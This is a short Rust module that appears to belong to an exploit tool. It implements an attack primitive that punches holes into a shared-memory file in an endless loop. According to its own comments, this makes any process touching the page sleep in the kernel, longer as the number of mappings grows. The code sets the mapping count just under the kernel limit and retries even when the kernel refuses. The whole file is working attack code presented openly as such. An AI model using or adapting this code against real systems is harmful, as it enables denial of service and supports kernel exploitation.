//! Holes punched into shared memory: while one is punched, whoever touches the page sleeps in the kernel, for longer the more
//! mappings the file has. An attacker has as many as a process may have.

use std::os::fd::BorrowedFd;

use rustix::fs::{FallocateFlags, fallocate};

/// Mappings of one process; the kernel allows 65,530.
pub(crate) const MAPPINGS: usize = 60_000;

/// Punches holes into `len` bytes of a file at `offset` until the process ends, also where the kernel refuses it.
pub(crate) fn without_end(file: BorrowedFd<'_>, offset: u64, len: usize) {
    let flags = FallocateFlags::PUNCH_HOLE | FallocateFlags::KEEP_SIZE;
    loop {
        if fallocate(file, flags, offset, len as u64).is_err() {
            std::thread::sleep(std::time::Duration::from_millis(1));
        }
    }
}
